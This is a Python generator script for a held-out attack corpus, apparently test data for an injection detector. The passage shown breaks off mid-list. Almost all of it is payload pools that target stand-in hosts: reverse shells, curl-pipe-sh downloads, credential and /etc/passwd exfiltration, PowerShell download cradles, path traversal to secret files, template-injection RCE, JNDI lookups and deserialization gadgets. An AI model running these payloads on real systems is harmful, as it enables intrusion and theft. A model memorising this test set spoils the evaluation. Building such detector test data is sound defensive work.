#!/usr/bin/env python3
"""Generate attacks.jsonl -- held-out attack corpus ("notes", issue 11, fourteenth round).

Standard library only, deterministic (random.Random(1415)).  Every payload is
composed here from the grammar of its context (what closes the surrounding
string/tag/command, what then runs), from hand-written pools; nothing is read
from a dataset or a public payload list.  Attacker hosts are reserved names
and documentation addresses (attacker.example, 203.0.113.0/24,
198.51.100.0/24).

Classes: "<category>-<technique>" plus "+<encoding>" when the whole payload
(or the part named) is encoded the way an attacker would send it.
"""
import base64
import json
import os
import random
from urllib.parse import quote

R = random.Random(1415)
HERE = os.path.dirname(os.path.abspath(__file__))
MAX_LEN = 1800

EVIL = "attacker.example"
OOB = "oob.attacker.example"
IP = "203.0.113.7"


def pick(seq):
    return R.choice(seq)


# --------------------------------------------------------------------------
# encoders
# --------------------------------------------------------------------------
def urlenc(s):
    """encode everything but unreserved characters (what most tools send)."""
    return quote(s, safe="")


def urlenc_min(s):
    """encode only the characters that matter to the context."""
    return "".join("%%%02X" % ord(c) if c in " '\"<>;|&`$(){}#\n\r\t=/\\" else c for c in s)


def double_urlenc(s):
    return quote(quote(s, safe=""), safe="")


def ent_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def ent_hex(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def ent_dec_nosemi_padded(s):
    return "".join("&#%07d" % ord(c) for c in s)


def js_u(s, only=None):
    return "".join("\\u%04x" % ord(c) if (only is None or c in only) else c for c in s)


def mixcase(s):
    out = []
    for c in s:
        out.append(c.upper() if (c.isalpha() and R.random() < 0.5) else c.lower())
    return "".join(out)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


# --------------------------------------------------------------------------
# cmdi: the value lands in a shell command line (sh -c / cmd.exe /c / PowerShell)
# --------------------------------------------------------------------------
CMD_LEGIT = ["8.8.8.8", "example.com", "report-2024.pdf", "photo.jpg", "127.0.0.1",
             "backup.tar.gz", "www.example.org", "Paris", "10", "notes.txt", "john@example.com",
             "198.51.100.23", "invoice_0042.pdf", "en_US"]
UNIX_SEPS = [(";", "semicolon"), ("; ", "semicolon"), (" | ", "pipe"), ("|", "pipe"),
             (" && ", "and"), (" & ", "background"), ("\n", "newline")]
UNIX_CMDS = [
    "id", "cat /etc/passwd", "uname -a", "whoami", "cat /etc/shadow", "ls -la /root",
    "cat ~/.aws/credentials", "env", "cat /proc/self/environ", "head -n 50 /var/www/.env",
    "curl -s http://%s/s.sh | sh" % EVIL, "wget -qO- http://203.0.113.9/x | bash",
    "curl -d @/etc/passwd http://%s/u" % EVIL, "rm -rf /var/www/html/*",
    "sleep 15", "ping -c 20 127.0.0.1", "nslookup $(whoami).%s" % OOB,
    "bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % IP, "nc -e /bin/sh %s 4444" % IP,
    "tar czf - /etc | curl -X POST --data-binary @- http://%s/up" % EVIL,
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "find / -name id_rsa 2>/dev/null", "ps aux", "netstat -tulpn",
]


def cmdi_cases():
    out = []
    # value + separator + command, composed
    for _ in range(8):
        sep, sname = pick(UNIX_SEPS)
        out.append(("cmdi-after-value-" + sname, pick(CMD_LEGIT) + sep + pick(UNIX_CMDS)))
    # || needs the first command to fail
    out += [
        ("cmdi-after-value-or", "nonexistent.invalid || id"),
        ("cmdi-after-value-or", "x || curl http://%s/p.sh|sh" % EVIL),
        ("cmdi-after-value-or", "'' || cat /etc/passwd #"),
    ]
    # command substitution and backticks
    out += [
        ("cmdi-subst-dollar", "$(id)"),
        ("cmdi-subst-dollar", "report-$(cat /etc/passwd | base64 -w0).pdf"),
        ("cmdi-subst-dollar", "photo$(curl -s http://%s/x.sh|sh).jpg" % EVIL),
        ("cmdi-subst-dollar", "example.com$(sleep 12)"),
        ("cmdi-backtick", "`id`"),
        ("cmdi-backtick", "backup.tar.gz`wget -q http://%s/a -O /tmp/a && sh /tmp/a`" % EVIL),
        ("cmdi-backtick", "`ping -c1 $(hostname).%s`" % OOB),
        ("cmdi-backtick", "Paris`sleep 9`"),
    ]
    # breaking out of a quoted argument
    out += [
        ("cmdi-quote-breakout", "x'; id; echo '"),
        ("cmdi-quote-breakout", "\"; cat /etc/passwd; echo \""),
        ("cmdi-quote-breakout", "notes.txt' && curl http://%s/?h=$(hostname) #" % EVIL),
        ("cmdi-quote-breakout", "abc\" | nc %s 4444 -e /bin/bash #" % IP),
        ("cmdi-quote-breakout", "\"$(sleep 10)\""),
        ("cmdi-quote-breakout", "' || wget -qO- http://%s/m | sh || '" % EVIL),
    ]
    # time based
    out += [
        ("cmdi-time-sleep", "; sleep 10 #"),
        ("cmdi-time-sleep", "127.0.0.1 | sleep 8"),
        ("cmdi-time-ping", "| ping -c 15 127.0.0.1"),
        ("cmdi-time-ping", "8.8.8.8 && ping -c 12 localhost"),
    ]
    # out of band
    out += [
        ("cmdi-oob-dns", "; nslookup $(id -u).%s" % OOB),
        ("cmdi-oob-dns", "example.com; dig +short $(whoami).%s" % OOB),
        ("cmdi-oob-http", "; curl http://%s/?d=$(cat /etc/hostname)" % EVIL),
        ("cmdi-oob-http", "| wget --post-file=/etc/passwd http://%s/" % EVIL),
    ]
    # reverse shells
    out += [
        ("cmdi-revshell", "; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s 4444 >/tmp/f" % IP),
        ("cmdi-revshell", "| python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'" % IP),
        ("cmdi-revshell", "; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"%s\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'" % IP),
        ("cmdi-revshell", "&& php -r '$s=fsockopen(\"%s\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'" % IP),
        ("cmdi-revshell", "; socat exec:'bash -li',pty,stderr tcp:%s:4444" % IP),
    ]
    # redirections that write files
    out += [
        ("cmdi-redirect-write", "; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php"),
        ("cmdi-redirect-write", "photo.jpg; id > /var/www/html/static/out.txt"),
        ("cmdi-redirect-write", "; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0ZW1wb3JhcnlrZXlmb3J0ZXN0aW5nb25seQ eve@evil' >> /root/.ssh/authorized_keys"),
        ("cmdi-redirect-write", "; (crontab -l; echo '* * * * * curl -s http://%s/c | sh') | crontab -" % EVIL),
    ]
    # evasions of word/space filters
    out += [
        ("cmdi-ifs", ";cat${IFS}/etc/passwd"),
        ("cmdi-ifs", "|cat$IFS$9/etc/shadow"),
        ("cmdi-ifs", "8.8.8.8;curl${IFS}-s${IFS}http://%s/x|sh" % EVIL),
        ("cmdi-brace-expansion", "|{cat,/etc/passwd}"),
        ("cmdi-brace-expansion", ";{wget,-qO-,http://%s/s}|sh" % EVIL),
        ("cmdi-quote-split", ";c'a't /e't'c/pa''ss'wd"),
        ("cmdi-quote-split", "&& w\"h\"o\"am\"i"),
        ("cmdi-backslash-split", ";c\\at /et\\c/pas\\swd"),
        ("cmdi-glob", ";/???/c?t /???/p?ss??"),
        ("cmdi-glob", "|/b??/sl??p 11"),
        ("cmdi-var-concat", ";a=c;b=at;$a$b /etc/passwd"),
        ("cmdi-var-concat", "x;u=who;v=ami;$u$v"),
        ("cmdi-base64-pipe", "|echo %s|base64 -d|sh" % b64("cat /etc/passwd")),
        ("cmdi-base64-pipe", "; bash -c \"$(echo %s | base64 -d)\"" % b64("curl -s http://%s/i | sh" % EVIL)),
        ("cmdi-printf-escape", ";$(printf '\\151\\144')"),
        ("cmdi-ansi-c-quote", ";$'\\x63\\x61\\x74' /etc/passwd"),
        ("cmdi-rev", ";$(rev<<<'dwssap/cte/ tac')"),
        ("cmdi-redirect-in", ";cat</etc/passwd"),
        ("cmdi-tab", ";\tcat\t/etc/passwd"),
    ]
    # argument injection into a fixed binary
    out += [
        ("cmdi-arg-injection", "-oProxyCommand=curl http://%s/x|sh" % EVIL),
        ("cmdi-arg-injection", "--use-compress-program=sh -c 'id>/tmp/o' x"),
        ("cmdi-arg-injection", "--output=/var/www/html/s.php http://%s/s.txt" % EVIL),
    ]
    # inside a sentence
    out += [
        ("cmdi-in-sentence", "Please ping my server 198.51.100.4; cat /etc/passwd # thanks!"),
        ("cmdi-in-sentence", "my file is called notes.txt && curl http://%s/x.sh|sh # is that ok?" % EVIL),
        ("cmdi-in-sentence", "Lookup for example.org | nc %s 4444 -e /bin/sh please" % IP),
    ]
    # Windows cmd.exe
    PS_CMD = "iwr http://%s/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe" % EVIL
    out += [
        ("cmdi-win-amp", "& whoami"),
        ("cmdi-win-amp", "report.pdf & type C:\\Windows\\win.ini"),
        ("cmdi-win-amp", "8.8.8.8 && net user eve S3cr3t!x /add && net localgroup administrators eve /add"),
        ("cmdi-win-pipe", "| type C:\\inetpub\\wwwroot\\web.config"),
        ("cmdi-win-or", "x || dir C:\\Users\\Administrator\\Desktop"),
        ("cmdi-win-time", "& ping -n 15 127.0.0.1 &"),
        ("cmdi-win-time", "photo.jpg & timeout /t 12 /nobreak"),
        ("cmdi-win-oob", "& nslookup %%USERNAME%%.%s" % OOB),
        ("cmdi-win-download", "& certutil -urlcache -split -f http://%s/a.exe %%TEMP%%\\a.exe && %%TEMP%%\\a.exe" % EVIL),
        ("cmdi-win-download", "| bitsadmin /transfer j /download http://%s/a.exe C:\\Users\\Public\\a.exe" % EVIL),
        ("cmdi-win-lolbin", "& mshta http://%s/x.hta" % EVIL),
        ("cmdi-win-lolbin", "& rundll32 \\\\%s\\s\\x.dll,Start" % IP),
        ("cmdi-win-dump", "& reg save HKLM\\SAM C:\\Users\\Public\\s.hiv"),
        ("cmdi-win-caret", "& w^h^o^a^m^i"),
        ("cmdi-win-caret", "| p^o^w^e^r^s^h^e^l^l -c iwr http://%s/p" % EVIL),
        ("cmdi-win-var-concat", "& set a=who&& set b=ami&& call %a%%b%"),
        ("cmdi-win-mixedcase", "| WhOaMi /aLl"),
        ("cmdi-powershell", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/p.ps1')\"" % EVIL),
        ("cmdi-powershell", "| powershell -enc " + ps_enc(PS_CMD)),
        ("cmdi-powershell", "; Get-Content C:\\Windows\\win.ini"),
        ("cmdi-powershell", "; Start-Sleep -Seconds 12"),
        ("cmdi-powershell", "$(Invoke-WebRequest -Uri \"http://%s/?u=$env:USERNAME\")" % EVIL),
    ]
    # encoded copies: the whole payload, as a query string or form body carries it
    enc = [
        ("cmdi-newline+urlenc", "8.8.8.8%0aid"),
        ("cmdi-newline+urlenc", "example.com%0Acat%20/etc/passwd"),
        ("cmdi-semicolon+urlenc", urlenc(";cat /etc/passwd")),
        ("cmdi-semicolon+urlenc", "report.pdf" + urlenc("; curl -s http://%s/s.sh | sh" % EVIL)),
        ("cmdi-and+urlenc", urlenc("&& whoami")),
        ("cmdi-subst-dollar+urlenc", urlenc("$(sleep 10)")),
        ("cmdi-backtick+urlenc", "photo.jpg" + urlenc("`id`")),
        ("cmdi-pipe+urlenc", urlenc_min("| nc %s 4444 -e /bin/sh" % IP)),
        ("cmdi-revshell+urlenc", urlenc("; bash -i >& /dev/tcp/%s/4444 0>&1" % IP)),
        ("cmdi-semicolon+double-urlenc", double_urlenc(";id")),
        ("cmdi-pipe+double-urlenc", "127.0.0.1" + double_urlenc("|cat /etc/passwd")),
        ("cmdi-win-amp+urlenc", urlenc("& type C:\\Windows\\win.ini")),
        ("cmdi-win-time+double-urlenc", double_urlenc("& ping -n 12 127.0.0.1")),
        ("cmdi-tab+urlenc", ";cat%09/etc/passwd"),
        ("cmdi-ifs+urlenc", urlenc(";curl${IFS}http://%s/$(id)" % EVIL)),
        ("cmdi-win-mixedcase", "& " + mixcase("powershell") + " -c " + mixcase("Invoke-Expression") + "(iwr http://%s/q.ps1)" % EVIL),
        ("cmdi-crlf+urlenc", "Paris%0d%0awhoami"),
    ]
    return out + enc


# --------------------------------------------------------------------------
# traversal: the value is used as (part of) a file path or include target
# --------------------------------------------------------------------------
LINUX_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "proc/self/cmdline",
                 "root/.ssh/id_rsa", "home/ubuntu/.ssh/id_rsa", "var/log/apache2/access.log",
                 "var/www/html/.env", "etc/nginx/nginx.conf", "root/.bash_history", "etc/hosts",
                 "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/mysql/my.cnf",
                 "proc/self/cwd/config/settings.py", "root/.aws/credentials"]
WIN_TARGETS = ["windows/win.ini", "windows/system32/drivers/etc/hosts",
               "inetpub/wwwroot/web.config", "windows/repair/sam", "Windows/Panther/Unattend.xml",
               "Users/Administrator/NTUser.dat", "boot.ini"]
APP_TARGETS = [("WEB-INF/web.xml", 1), (".env", 1), ("config/database.yml", 1),
               ("app/etc/env.php", 1), ("wp-config.php", 1), (".git/config", 1),
               ("appsettings.json", 1), ("config/secrets.yml", 2), ("settings.py", 2)]
# (segment, slash used inside the target, class suffix, where it applies)
# "any": a Linux or Windows file system; "win": only where "\\" separates
# (or where the decoder is IIS); "java": servlet containers (..;/).
SEGS = [
    ("../", "/", "", "any"),
    ("..\\", "\\", "-backslash", "win"),
    ("..\\/", "/", "-mixed-slash", "win"),
    ("%2e%2e%2f", "%2f", "+urlenc", "any"),
    ("%2e%2e/", "/", "+urlenc-dots", "any"),
    ("..%2f", "%2f", "+urlenc-slash", "any"),
    ("..%5c", "%5c", "+urlenc-backslash", "win"),
    (".%2e/", "/", "+urlenc-halfdot", "any"),
    ("%252e%252e%252f", "%252f", "+double-urlenc", "any"),
    ("..%252f", "%252f", "+double-urlenc-slash", "any"),
    ("..%c0%af", "%c0%af", "+overlong-utf8", "any"),
    ("%c0%ae%c0%ae/", "/", "+overlong-utf8-dots", "any"),
    ("%u002e%u002e%u2215", "%u2215", "+iis-u-encoding", "win"),
    ("....//", "/", "-nested-strip", "any"),
    ("..././", "/", "-nested-strip", "any"),
    ("....\\\\", "\\", "-nested-strip-backslash", "win"),
    ("..;/", "/", "-semicolon", "java"),
]
LINUX_PREFIX = ["", "", "", "images/", "uploads/2024/03/", "/var/www/html/uploads/", "en/",
                "static/img/", "templates/", "files/", "/app/public/", "docs/"]
WIN_PREFIX = ["", "", "images/", "uploads\\", "C:\\inetpub\\wwwroot\\uploads\\", "Content\\img\\"]
APP_PREFIX = ["", "", "static/", "images/", "assets/", "download/"]
TRAV_SUFFIX = ["", "", "", "", "%00", "%00.png", "%00.jpg", "%00.pdf"]


def trav_compose(target, depth, seg, slash, prefix, suffix):
    return prefix + seg * depth + target.replace("/", slash) + suffix


def traversal_cases():
    out = []
    seen_cls = {}
    for _ in range(32):
        kind = R.randrange(10)
        if kind < 5:
            osname, target = "linux", pick(LINUX_TARGETS)
            seg, slash, cs, _w = pick([x for x in SEGS if x[3] == "any"])
            depth, prefix = R.randrange(3, 11), pick(LINUX_PREFIX)
        elif kind < 8:
            osname, target = "windows", pick(WIN_TARGETS)
            seg, slash, cs, _w = pick([x for x in SEGS if x[3] in ("any", "win")])
            depth, prefix = R.randrange(3, 9), pick(WIN_PREFIX)
        else:
            osname = "app-config"
            target, d = pick(APP_TARGETS)
            ok = ("any", "java") if target.startswith("WEB-INF") else ("any",)
            seg, slash, cs, _w = pick([x for x in SEGS if x[3] in ok])
            depth, prefix = d + R.randrange(0, 3), pick(APP_PREFIX)
        suffix = pick(TRAV_SUFFIX)
        cls = "traversal-dotdot" + ("-" + osname if osname != "linux" else "")
        cls += ("-nullbyte" if suffix else "") + cs
        out.append((cls, trav_compose(target, depth, seg, slash, prefix, suffix)))
    out += [
        ("traversal-dotdot-deep", "../" * 16 + "etc/passwd"),
        ("traversal-dotdot-windows", "..\\..\\..\\..\\..\\..\\windows\\win.ini"),
        ("traversal-dot-segments", "/var/www/html/./././../../../etc/passwd"),
        ("traversal-dot-segments", "./.././.././.././.././etc/shadow"),
        ("traversal-dot-segments", "uploads/./../.././../../../../proc/self/environ"),
        ("traversal-dot-segments", "photos/2019/../../../../../../etc/passwd"),
        ("traversal-proc-self", "/proc/self/cwd/../../../../etc/passwd"),
        ("traversal-proc-self", "/proc/self/root/etc/shadow"),
        ("traversal-absolute-linux", "/etc/passwd"),
        ("traversal-absolute-linux", "/etc/shadow"),
        ("traversal-absolute-linux", "/proc/self/environ"),
        ("traversal-absolute-linux", "/root/.ssh/id_rsa"),
        ("traversal-absolute-linux", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("traversal-absolute-linux", "//etc//passwd"),
        ("traversal-absolute-windows", "C:\\Windows\\win.ini"),
        ("traversal-absolute-windows", "C:/Windows/System32/config/SAM"),
        ("traversal-absolute-windows", "c:\\inetpub\\wwwroot\\web.config"),
        ("traversal-absolute-windows", "\\\\?\\C:\\Windows\\System32\\drivers\\etc\\hosts"),
        ("traversal-absolute-windows", "C:\\Users\\Administrator\\.ssh\\id_rsa"),
        ("traversal-file-url", "file:///etc/passwd"),
        ("traversal-file-url", "file://localhost/etc/shadow"),
        ("traversal-file-url", "file:///C:/Windows/win.ini"),
        ("traversal-file-url", "file:/proc/self/environ"),
        ("traversal-file-url", "netdoc:///etc/passwd"),
        ("traversal-file-url", "jar:file:///opt/app/app.jar!/application.properties"),
        ("traversal-unc", "\\\\%s\\share\\avatar.jpg" % IP),
        ("traversal-unc", "//%s/share/x.png" % EVIL),
        ("traversal-unc", "\\\\localhost\\c$\\Windows\\win.ini"),
        ("traversal-unc", "file://%s/share/a.txt" % IP),
        ("traversal-php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
        ("traversal-php-wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
        ("traversal-php-wrapper", "php://filter/convert.iconv.UTF-8.UTF-16/resource=index.php"),
        ("traversal-php-wrapper", "pHp://FilTer/convert.base64-encode/resource=wp-config.php"),
        ("traversal-php-wrapper", "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>")),
        ("traversal-php-wrapper", "expect://id"),
        ("traversal-php-wrapper", "zip://uploads/avatar.jpg%23shell.php"),
        ("traversal-php-wrapper", "phar://uploads/avatars/1234.jpg/x"),
        ("traversal-php-wrapper", "compress.zlib:///etc/passwd"),
        ("traversal-php-wrapper", "php://filter/resource=../../../../etc/passwd"),
        ("traversal-log-include", "../../../../../../var/log/nginx/access.log"),
        ("traversal-semicolon", "/..;/..;/..;/WEB-INF/web.xml"),
        ("traversal-semicolon", "static/..;/..;/..;/etc/passwd"),
        ("traversal-fullwidth-nfkc", "．．／．．／．．／．．／etc／passwd"),
        ("traversal-fullwidth-nfkc", "．．\\．．\\．．\\windows\\win.ini"),
        ("traversal-after-value", "invoice_0042.pdf/../../../../../../../etc/passwd"),
        ("traversal-after-value", "en_US/../../../../../../etc/passwd%00"),
        ("traversal-after-value", "Documents/Taxes 2023/../../../../../../../etc/shadow"),
        ("traversal-dotdot+double-urlenc", double_urlenc("../../../../../../etc/passwd")),
        ("traversal-dotdot+urlenc", urlenc("..\\..\\..\\..\\windows\\win.ini")),
        ("traversal-php-wrapper+urlenc", urlenc("php://filter/convert.base64-encode/resource=/etc/passwd")),
        ("traversal-file-url+urlenc", urlenc("file:///etc/shadow")),
    ]
    return out


# --------------------------------------------------------------------------
# code: template injection, expression languages, deserialization, lookups,
# eval-style injection, prototype pollution
# --------------------------------------------------------------------------
def php_str(s, big=False):
    if not big:
        return 's:%d:"%s";' % (len(s.encode()), s)
    esc = "".join(c if (c.isalnum() or c in "_ ./-") else "\\%02x" % ord(c) for c in s)
    return 'S:%d:"%s";' % (len(s.encode()), esc)


def php_obj(cls, props, big=False):
    body = "".join(php_str(k, big) + v for k, v in props)
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), body)


def php_priv(cls, name):
    return "\0" + cls + "\0" + name


def guzzle_cookiejar(path, code, big=True):
    sc = "GuzzleHttp\\Cookie\\SetCookie"
    cj = "GuzzleHttp\\Cookie\\CookieJar"
    fj = "GuzzleHttp\\Cookie\\FileCookieJar"
    data = ('a:3:{' + php_str("Expires") + 'i:1;' + php_str("Discard") + 'b:0;'
            + php_str("Value") + php_str(code) + '}')
    cookie = php_obj(sc, [(php_priv(sc, "data"), data)], big)
    return php_obj(fj, [
        (php_priv(cj, "cookies"), "a:1:{i:0;%s}" % cookie),
        (php_priv(cj, "strictMode"), "N;"),
        (php_priv(fj, "filename"), php_str(path)),
        (php_priv(fj, "storeSessionCookies"), "b:1;"),
    ], big)


PICKLE_P0 = "cos\nsystem\n(S'curl -s http://%s/p | sh'\ntR." % EVIL


def code_cases():
    out = [
        # Jinja2
        ("code-ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("code-ssti-jinja2", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
        ("code-ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('curl http://%s/x|sh').read() }}" % EVIL),
        ("code-ssti-jinja2", "{{ config.items() }}"),
        ("code-ssti-jinja2", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("code-ssti-jinja2", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
        ("code-ssti-jinja2+hex-escapes", r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("code-ssti-jinja2", "{{ joiner.__init__.__globals__.os.system('rm -rf /var/www/uploads') }}"),
        ("code-ssti-jinja2-in-sentence", "Hi {{ namespace.__init__.__globals__.os.popen('whoami').read() }}, see you at 8!"),
        ("code-ssti-jinja2", "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
        ("code-ssti-jinja2", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
        ("code-ssti-jinja2+string-concat", "{% set o = lipsum.__globals__['o'~'s'] %}{{ o['po'~'pen']('id').read() }}"),
        # Twig
        ("code-ssti-twig", "{{['id']|filter('system')}}"),
        ("code-ssti-twig", "{{['cat /etc/passwd']|map('passthru')|join}}"),
        ("code-ssti-twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
        ("code-ssti-twig+string-concat", "{%% set f = 'sys'~'tem' %%}{{ ['curl http://%s/t|sh']|filter(f) }}" % EVIL),
        ("code-ssti-twig", "{{ app.request.server.all|join(',') }}"),
        # Freemarker
        ("code-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("code-ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
        ("code-ssti-freemarker", "<#assign pb=\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\")>${pb.start()}"),
        # Velocity
        ("code-ssti-velocity", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null))$rt.exec('touch /tmp/pwned')"),
        ("code-ssti-velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"curl http://%s/v\")" % EVIL),
        # ERB
        ("code-ssti-erb", "<%= `id` %>"),
        ("code-ssti-erb", "<%= system('cat /etc/passwd') %>"),
        ("code-ssti-erb", "<%= IO.popen('uname -a').read %>"),
        ("code-ssti-erb", "<%= File.read('/etc/shadow') %>"),
        # Thymeleaf
        ("code-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("code-ssti-thymeleaf", "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/thy')}]]"),
        # Handlebars
        ("code-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('cat /etc/passwd');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
        # Go templates
        ("code-ssti-go", "{{define \"x\"}}<script>fetch('//%s/?c='+document.cookie)</script>{{end}}{{template \"x\"}}" % EVIL),
        # Mako, Smarty, Pug, Nunjucks, EJS, Razor
        ("code-ssti-mako", "${self.module.cache.util.os.system('id')}"),
        ("code-ssti-mako", "<% import os; x = os.popen('cat /etc/passwd').read() %>${x}"),
        ("code-ssti-smarty", "{system('id')}"),
        ("code-ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
        ("code-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
        ("code-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id').toString()\")()}}"),
        ("code-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
        ("code-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
        # SSI
        ("code-ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
        ("code-ssi-include", "<!--#include virtual=\"/etc/shadow\" -->"),
        # SpEL / OGNL / EL / MVEL
        ("code-spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
        ("code-spel", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl http://%s/x|sh'})}" % EVIL),
        ("code-spel", "${new java.lang.ProcessBuilder({'id'}).start()}"),
        ("code-spel", "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream()).useDelimiter('\\A').next()}"),
        ("code-spel", "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))"),
        ("code-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("code-ognl", "${@java.lang.Runtime@getRuntime().exec('touch /tmp/ognl')}"),
        ("code-ognl", "%%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('curl http://%s/o'))}" % EVIL),
        ("code-el", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
        ("code-el", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
        ("code-mvel", "Runtime.getRuntime().exec(\"cat /etc/passwd\");"),
        # Log4Shell-style lookups
        ("code-jndi-lookup", "${jndi:ldap://%s:1389/a}" % EVIL),
        ("code-jndi-lookup", "${jndi:rmi://%s:1099/obj}" % IP),
        ("code-jndi-lookup", "${jndi:dns://%s/x}" % OOB),
        ("code-jndi-lookup+nested-lower", "${${lower:j}ndi:${lower:l}dap://%s/a}" % EVIL),
        ("code-jndi-lookup+default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/e}" % EVIL),
        ("code-jndi-lookup+env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://%s/z}" % EVIL),
        ("code-jndi-lookup-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.%s/k}" % OOB),
        ("code-jndi-lookup-in-sentence", "Mozilla/5.0 (Windows NT 10.0) ${jndi:ldaps://%s/ua} Chrome/120" % EVIL),
        ("code-jndi-lookup", "${jndi:ldap://127.0.0.1#%s:1389/a}" % EVIL),
        ("code-jndi-lookup+urlenc", urlenc("${jndi:ldap://%s/q}" % EVIL)),
        ("code-jndi-lookup+double-urlenc", double_urlenc("${jndi:rmi://%s/r}" % EVIL)),
        # deserialization and type tags
        ("code-deser-yaml-python", "!!python/object/apply:os.system ['id']"),
        ("code-deser-yaml-python", "!!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
        ("code-deser-yaml-python", "!!python/object/apply:builtins.exec [\"import os; os.system('curl http://%s/y|sh')\"]" % EVIL),
        ("code-deser-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://%s/y.jar\"]]]]" % EVIL),
        ("code-deser-json-fastjson", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://%s:1389/Obj","autoCommit":true}' % EVIL),
        ("code-deser-json-fastjson+unicode-escapes", '{"%s":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://%s:1099/Obj","autoCommit":true}' % (js_u("@type"), IP)),
        ("code-deser-json-jackson", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://%s:1099/Obj","autoCommit":true}]' % IP),
        ("code-deser-json-jackson", '{"user":["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://%s/i.sql\'"}]}' % EVIL),
